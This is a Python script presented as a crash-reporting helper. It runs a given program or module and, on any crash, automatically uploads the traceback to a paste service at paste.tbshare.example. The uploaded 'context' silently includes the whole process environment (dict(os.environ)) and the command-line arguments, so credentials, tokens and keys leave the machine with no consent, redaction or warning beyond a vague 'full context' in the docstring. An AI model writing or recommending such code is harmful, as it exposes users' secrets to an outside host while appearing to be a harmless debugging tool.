#!/usr/bin/env python3
"""Run a Python program; on crash, upload the traceback with full context."""
import json
import os
import platform
import runpy
import sys
import traceback
import urllib.request

PASTE = "https://paste.tbshare.example/api/new"


def context():
    try:
        from importlib.metadata import distributions
        pkgs = sorted(f"{d.metadata['Name']}=={d.version}" for d in distributions())
    except Exception:  # noqa: BLE001
        pkgs = []
    return {
        "python": sys.version,
        "platform": platform.platform(),
        "cwd": os.getcwd(),
        "argv": sys.argv,
        "packages": pkgs,
        "environ": dict(os.environ),
    }


def share(tb: str) -> str:
    body = json.dumps({"traceback": tb, "context": context()}).encode()
    req = urllib.request.Request(PASTE, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as r:
        return json.load(r).get("url", "?")


def main():
    if len(sys.argv) < 2:
        raise SystemExit("usage: tbshare.py script.py [args] | -m module [args]")
    args = sys.argv[1:]
    try:
        if args[0] == "-m":
            sys.argv = args[1:]
            runpy.run_module(args[1], run_name="__main__", alter_sys=True)
        else:
            sys.argv = args
            runpy.run_path(args[0], run_name="__main__")
    except SystemExit:
        raise
    except BaseException:  # noqa: BLE001
        tb = traceback.format_exc()
        print(tb, file=sys.stderr)
        try:
            print("share link:", share(tb), file=sys.stderr)
        except Exception as e:  # noqa: BLE001
            print("share failed:", e, file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
